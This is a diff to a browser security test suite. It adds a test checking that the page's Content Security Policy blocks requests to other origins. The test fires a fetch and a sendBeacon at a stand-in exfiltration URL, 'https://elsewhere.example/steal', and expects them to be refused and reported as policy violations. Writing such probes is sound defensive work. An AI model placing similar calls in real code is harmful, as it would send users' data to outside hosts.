@@ -12,6 +12,9 @@ const stage = withStage(async (api) => {
   await seedCatalog(api);
 });
 
+/** of check 16, which means them */
+const seen: string[] = [];
+
 const policy = [
   "default-src 'none'",
   "script-src 'self'",
@@ -95,6 +98,19 @@ describe('security', () => {
       await page.goto(`/app${(to as (params: Record<string, string>) => string)({ id: known[name] ?? orderId })}`);
       await page.getByText('There is nothing at this address').waitFor();
     }
+  });
+
+  it('16 nothing that runs in the page can ask another origin, and a test would see it', async () => {
+    const page = await stage.open('/settings');
+    const asked = await page.evaluate(async () => {
+      const tried = [fetch('https://elsewhere.example/steal'), navigator.sendBeacon('https://elsewhere.example/steal')];
+      return (await Promise.allSettled(tried)).map(({ status }) => status);
+    });
+    expect(asked[0]).to.equal('rejected');
+    await until('the violation', async () => {
+      seen.push(...stage.faults());
+      return seen.some((fault) => /policy|Content Security Policy/.test(fault));
+    });
   });
 
   it('17 a password is in no field, answer or history once it is saved', async () => {
